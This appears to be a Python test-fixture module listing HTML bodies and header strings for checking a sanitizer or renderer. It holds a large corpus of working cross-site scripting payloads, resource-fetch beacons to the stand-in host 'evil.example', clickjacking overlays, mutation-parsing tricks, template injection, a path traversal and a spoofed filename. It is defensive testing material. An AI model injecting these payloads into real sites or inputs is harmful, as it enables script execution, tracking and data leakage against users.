"""Bodies and header texts made to run a script or to fetch something, each in another way."""

HOST = "https://evil.example"
_RUN = "window.hacked=1;parent.hacked=1;top.hacked=1;alert(1)"

_TAGS_THAT_RUN = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC='{HOST}/x.js'></SCRIPT>",
    f"<script/x>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<svg onload='{_RUN}'>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin='{_RUN}' attributeName=x dur=1s>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f'<object data="javascript:{_RUN}"></object>',
    f'<embed src="javascript:{_RUN}">',
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{_RUN}'>\">",
    f"<!--><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<title><img src=x onerror='{_RUN}'></title>",
    f"<style><img src=x onerror='{_RUN}'></style>",
    f"<xmp><script>{_RUN}</script></xmp>",
    f"<base href='javascript:{_RUN}//'><a href=x>x</a>",
]
_HANDLERS = [
    f"<{tag} {handler}='{_RUN}'>"
    for tag, handler in [
        ("img src=x", "onerror"),
        ("img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("body", "onfocus"),
        ("body", "onhashchange"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("button autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("video autoplay src=data:,", "onloadstart"),
        ("object data=x", "onerror"),
        ("p style='animation:x 1s'", "onanimationstart"),
        ("p style='transition:all 1s' tabindex=0 autofocus", "onfocus"),
        ("link rel=stylesheet href=x", "onerror"),
        ("script src=x", "onerror"),
        ("iframe", "onload"),
        ("frameset", "onload"),
    ]
]
_FETCHES = [
    f"<img src='{HOST}/1'>",
    f"<img srcset='{HOST}/2 1x, {HOST}/3 2x'>",
    f"<picture><source srcset='{HOST}/4'><img></picture>",
    f"<input type=image src='{HOST}/5'>",
    f"<video poster='{HOST}/6' autoplay><source src='{HOST}/7'><track default src='{HOST}/8'></video>",
    f"<audio autoplay src='{HOST}/9'></audio>",
    f"<body background='{HOST}/10'>",
    f"<table background='{HOST}/11'><tr><td background='{HOST}/12'>x</table>",
    f"<link rel=stylesheet href='{HOST}/13'>",
    f"<link rel=icon href='{HOST}/14'><link rel='apple-touch-icon' href='{HOST}/14b'>",
    f"<link rel=prefetch href='{HOST}/15'>",
    f"<link rel=preload as=image href='{HOST}/16'>",
    f"<link rel=dns-prefetch href='{HOST}'><link rel=preconnect href='{HOST}'>",
    f"<link rel=modulepreload href='{HOST}/17'>",
    f"<link rel=prerender href='{HOST}/18'>",
    f"<link rel=manifest href='{HOST}/19'>",
    f"<style>@import '{HOST}/20';</style>",
    f"<style>@import url({HOST}/21);</style>",
    f"<style>body{{background:url({HOST}/22)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({HOST}/23)}}p{{font-family:x}}</style><p>x",
    f"<style>p::before{{content:url({HOST}/24)}}</style><p>x",
    f"<style>p{{cursor:url({HOST}/25),auto}}</style><p>x",
    f"<style>ul{{list-style:url({HOST}/26)}}</style><ul><li>x</ul>",
    f"<style>p{{border-image:url({HOST}/27)}}</style><p>x",
    f"<style>p{{mask:url({HOST}/28#m)}}</style><p>x",
    f"<style>p{{filter:url({HOST}/29#f)}}</style><p>x",
    f"<p style='background:image-set(\"{HOST}/30\" 1x)'>x",
    f"<iframe src='{HOST}/31'></iframe>",
    f"<frameset><frame src='{HOST}/32'></frameset>",
    f"<object data='{HOST}/33' type='text/html'></object>",
    f"<embed src='{HOST}/34'>",
    f"<applet code='{HOST}/35'></applet>",
    f"<svg><image href='{HOST}/36'/></svg>",
    f"<svg><use href='{HOST}/37#x'/></svg>",
    f"<svg><feImage href='{HOST}/38'/></svg>",
    f"<svg><a href='{HOST}/39'><rect width=9 height=9 /></a></svg>",
    f"<meta http-equiv=refresh content='0;url={HOST}/40'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{_RUN}</script>'>",
    f"<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='{HOST}/41'>",
    f"<meta http-equiv=Set-Cookie content='a=b'><img src='{HOST}/42'>",
    f"<form action='{HOST}/43'><input name=x value=y></form>",
    f"<form id=f action='{HOST}/44'></form><input form=f autofocus>",
    f"<base href='{HOST}/'><img src=45>",
    f"<base href='{HOST}/' target=_top><a href=46>x</a>",
    f"<a ping='{HOST}/47' href='#'>x</a>",
    "<img src='//evil.example/48'>",
    "<img src='http:/\\evil.example/49'>",
    f"<img lowsrc='{HOST}/50' dynsrc='{HOST}/51'>",
    f"<bgsound src='{HOST}/52'>",
    f"<blockquote cite='{HOST}/53'>x</blockquote><img longdesc='{HOST}/54'>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{HOST}/55"]}}]}}</script>',
    f"<portal src='{HOST}/56'></portal><fencedframe></fencedframe>",
    f"<html manifest='{HOST}/57'><body>x",
    f"<xml><?xml-stylesheet href='{HOST}/58'?></xml>",
    f"<img src=x loading=lazy srcset='{HOST}/59 9w' sizes=9px>",
]
_HANGING = [
    f"<img src='{HOST}/60?",
    f"<a href='{HOST}/61",
    f"</iframe></main><script>{_RUN}</script>",
    f"\"></iframe><img src='{HOST}/62'>",
]
_ACTIVE_XML = [
    f"<svg><set attributeName=href to='javascript:{_RUN}'/><a><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg"
    f" onload={_RUN}/>#x'/></svg>",
    f"<svg><foreignObject><iframe src='{HOST}/70'></iframe></foreignObject></svg>",
    f"<svg xmlns:xlink='http://www.w3.org/1999/xlink'><script xlink:href='{HOST}/71'/></svg>",
    f"<svg><style>@import '{HOST}/72';</style></svg>",
    f"<svg><rect width=9 height=9 fill='url({HOST}/73#g)' marker-end='url({HOST}/74#m)'/></svg>",
    f"<svg><discard onbegin='{_RUN}'/><image href=x onerror='{_RUN}'/></svg>",
    f"<math><annotation-xml encoding='text/html'><img src='{HOST}/75' onerror='{_RUN}'>"
    "</annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    f" onerror={_RUN}&gt;'></table>",
    f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{HOST}/76'?><html/>",
    "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
    f"<xsl:include href='{HOST}/77'/><script>{_RUN}</script></xsl:stylesheet>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{HOST}/78'>]><p>&e;",
]
_STYLES = [
    f"<style>@import url({HOST}/80) layer(x) supports(display:grid) screen;</style>",
    f"<style>@\\69mport '{HOST}/81';p{{background:\\75rl({HOST}/82)}}</style><p>x",
    f"<style>@property --u{{syntax:'<url>';inherits:true"
    f";initial-value:url({HOST}/83)}}p{{content:var(--u)}}</style><p>x",
    f"<style>:root{{--u:url({HOST}/84)}}p{{background-image:var(--u)}}</style><p>x",
    f"<style>p{{float:left;shape-outside:url({HOST}/85);clip-path:url({HOST}/86#c)"
    f";offset-path:url({HOST}/87#o)}}</style><p>x",
    f"<style>p{{background:-webkit-cross-fade(url({HOST}/88),url({HOST}/89),50%);"
    f"-webkit-box-reflect:below 0 url({HOST}/90)}}</style><p>x",
    f"<style>li::marker{{content:url({HOST}/91)}}li:has(b)::after{{content:image-set(url({HOST}/92)"
    f" 1x)}}</style><li><b>x",
    f"<style>input[value^=a]{{background:url({HOST}/93)}}</style><input value=abc>",
    f"<style>@font-face{{font-family:y;src:local(none),url({HOST}/94) format('woff2') tech(variations);"
    "unicode-range:U+61}p{font-family:y}</style><p>a",
    f"<style>@keyframes k{{to{{background:url({HOST}/95)}}}}p{{animation:k 1ms forwards}}</style><p>x",
    f"<p style='behavior:url({HOST}/96);-moz-binding:url({HOST}/97#x);width:expression({_RUN})'>x",
    f"<style>@document url({HOST}/98){{}}@namespace url({HOST}/99);@media"
    f" all{{p{{cursor:-webkit-image-set(url({HOST}/100) 1x),auto}}}}</style><p>x",
    f"<template shadowrootmode=open><style>@import '{HOST}/101'"
    f";:host{{background:url({HOST}/102)}}</style></template>",
    f"<div><template shadowrootmode=closed><img src='{HOST}/103' onerror='{_RUN}'>"
    f"<script>{_RUN}</script></template></div>",
]
_AHEAD = [
    f"<link rel=preload as=image imagesrcset='{HOST}/110 1x, {HOST}/111 2x' imagesizes=9px>",
    f"<link/rel=preconnect/href={HOST}/>",
    f"<LINK\nREL='nofollow PRECONNECT'\nHREF='{HOST}/' crossorigin>",
    f"<link\x0crel=preconnect\x0chref={HOST}/>",
    f"<link rel=compression-dictionary href='{HOST}/112'><link rel=expect href='{HOST}/113' blocking=render>",
    f"<!--><link rel=preconnect href='{HOST}/'>--><link rel='&#112;reconnect' href='{HOST}/'>",
    f"<noscript><link rel=preconnect href='{HOST}/'><img src='{HOST}/114'></noscript>",
    f"<noscript><style></noscript><img src=x onerror='{_RUN}'><iframe src='{HOST}/115'></style></noscript>",
    f"<select><template><link rel=preconnect href='{HOST}/'></template></select><svg><link"
    f" rel=preconnect href='{HOST}/'/></svg>",
    f"<meta http-equiv=x-dns-prefetch-control content=on><a href='{HOST}/116'>x</a>",
    f"<meta http-equiv='&#114;efresh' content='0;URL=\"{HOST}/117\"'>",
    f"<meta http-equiv=refresh content='.0,{HOST}/118'>",
    "<meta http-equiv=refresh content=' 0 ; url = //evil.example/119 '>",
    f"<svg><meta http-equiv=refresh content='0;{HOST}/120'></svg>",
    f"<meta http-equiv=delegate-ch content='sec-ch-ua-model {HOST}'><meta name=referrer"
    f" content=unsafe-url><img src='{HOST}/121'>",
    f'<script type=importmap>{{"imports":{{"x":"{HOST}/122"}}}}</script><script type=module>import \'x\'</script>',
    f"<script type=module src='{HOST}/123'></script><script nomodule src='{HOST}/124'></script>",
    f"<img attributionsrc='{HOST}/125' src='{HOST}/126' crossorigin fetchpriority=high>",
    f"<image src='{HOST}/127'><img src='&#104;ttps&colon;//evil&period;example/128'>",
    "<base href='//evil.example'><img src='/129'><link rel=icon href=130>",
]
_EMBEDDED = [
    "<iframe sandbox='allow-scripts allow-same-origin allow-top-navigation' srcdoc=\"<img"
    f" src='{HOST}/140'><script>{_RUN}</script>\"></iframe>",
    f"<iframe src='data:text/html,<script>{_RUN}</script><img src={HOST}/141>'></iframe>",
    f"<iframe src='blob:{HOST}/142'></iframe><iframe src='view-source:{HOST}/143'></iframe>",
    "<iframe src='/operator'></iframe><object data='/me'></object><embed src='/inbox/1/html'>",
    f"<iframe credentialless loading=eager csp='default-src *' src='{HOST}/144'></iframe>",
    f"<fencedframe src='{HOST}/145'></fencedframe><webview src='{HOST}/146'></webview>",
    f"<object classid='clsid:D27CDB6E' codebase='{HOST}/147'><param name=movie value='{HOST}/148'></object>",
    "<object type='image/svg+xml' data='data:image/svg+xml,<svg xmlns="
    f'"http://www.w3.org/2000/svg" onload="{_RUN}"/>\'></object>',
    f"<embed type='application/pdf' src='{HOST}/149'><embed type='text/html'"
    f" src='data:text/html,<script>{_RUN}</script>'>",
    f"<!--[if gte IE 4]><script>{_RUN}</script><img src='{HOST}/150'><![endif]--><![if !IE]>"
    f"<img src='{HOST}/151'><![endif]>",
    f"<div popover id=d onbeforetoggle='{_RUN}' ontoggle='{_RUN}'>x</div><p hidden=until-found"
    f" onbeforematch='{_RUN}'>x",
    f"<p style='content-visibility:auto' oncontentvisibilityautostatechange='{_RUN}'>x",
    f"<form action='{HOST}/152' id=parentNode name=body><input name=firstChild><input"
    " name=attributes></form>",
    f"<plaintext><img src='{HOST}/153' onerror='{_RUN}'>",
    f"<p>\x00<scr\x00ipt>{_RUN}</script><img\x00src='{HOST}/154' src\x0b='{HOST}/155' "
    f"\x00onerror='{_RUN}' src='{HOST}/156'>",
]
BODIES = [*_TAGS_THAT_RUN, *_HANDLERS, *_FETCHES, *_HANGING, *_ACTIVE_XML, *_STYLES, *_AHEAD, *_EMBEDDED]

_OVER_ALL = "style='position:fixed;inset:0;width:100%;height:100%;display:block'"
CLICKED = [
    f"<a {_OVER_ALL} href='{HOST}/200'>x</a>",
    f"<a {_OVER_ALL} href='{HOST}/201' target=_top ping='{HOST}/202'>x</a>",
    f"<a {_OVER_ALL} href='{HOST}/203' target=_blank rel=opener>x</a>",
    f"<a {_OVER_ALL} href='#' ping='{HOST}/204' attributionsrc='{HOST}/205'>x</a>",
    f"<a {_OVER_ALL} href='{HOST}/206' download>x</a>",
    f"<a {_OVER_ALL} href='java\tscr\nipt:{_RUN}'>x</a>",
    f"<a {_OVER_ALL} href='\x01 JaVaScRiPt&colon;{_RUN}' target=_parent>x</a>",
    f"<a {_OVER_ALL} href='vbscript:MsgBox(1)'>x</a>",
    f"<a {_OVER_ALL} href='data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4='>x</a>",
    f"<a {_OVER_ALL} href='data:text/html,<script>{_RUN}</script>' target=_top>x</a>",
    f"<base target=_top><map name=m><area shape=default href='{HOST}/207'></map><img usemap=#m"
    f" {_OVER_ALL} src=data:,>",
    f"<svg {_OVER_ALL}><a href='javascript:{_RUN}'><rect width=9999 height=9999 /></a></svg>",
    f"<math {_OVER_ALL} href='{HOST}/208'><mtext {_OVER_ALL} href='javascript:{_RUN}'>x</mtext></math>",
    f"<form action='{HOST}/209' method=post target=_top><button {_OVER_ALL}>x</button></form>",
    f"<form><button {_OVER_ALL} formaction='{HOST}/210'>x</button></form>",
    f"<form><input type=image {_OVER_ALL} formaction='javascript:{_RUN}' src=data:,></form>",
    f"<form id=g action='{HOST}/211' method=dialog></form><input type=submit form=g"
    f" formmethod=get {_OVER_ALL}>",
    f"<details {_OVER_ALL} ontoggle='{_RUN}'><summary {_OVER_ALL} onclick='{_RUN}'>x</summary></details>",
    f"<button {_OVER_ALL} popovertarget=q onclick='{_RUN}'>x</button><p popover id=q ontoggle='{_RUN}'>x",
    f"<label {_OVER_ALL} for=c onpointerdown='{_RUN}'>x</label><form action='{HOST}/212'><input"
    " type=submit id=c></form>",
    f"<a {_OVER_ALL} href='mailto:x@evil.example?body={HOST}' target=_top>x</a>",
    f"<a {_OVER_ALL} href='/me' target=_top>x</a>",
]
"""What does nothing until somebody clicks on it, wherever that is."""

HEADERS = [
    f"<script>{_RUN}</script>",
    f'"><img src={HOST}/h onerror={_RUN}>',
    f"' onmouseover='{_RUN}' x='",
    f"</title><script>{_RUN}</script>",
    f"</textarea><svg onload={_RUN}>",
    "{{7*7}}{% raw %}${7*7}",
    "\u202egnp.exe \u200b\u2066x\u2069",
    f"javascript:{_RUN}",
    f"<a href={HOST}>x</a>",
    "&lt;script&gt;&#60;script&#62;",
    f"=?utf-8?q?=3Cscript=3E{'x' * 20}=3C/script=3E?=",
    "=?utf-8?b?PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==?=",
    "../../etc/passwd",
    "x\tonfocus=alert(1) autofocus tabindex=1",
    f"<svg/onload={_RUN}>",
    f"<iframe src={HOST}>",
    f"<meta http-equiv=refresh content=0;url={HOST}>",
    f"<base href={HOST}>",
    f"<link rel=stylesheet href={HOST}>",
    f"<style>@import '{HOST}'</style>",
]
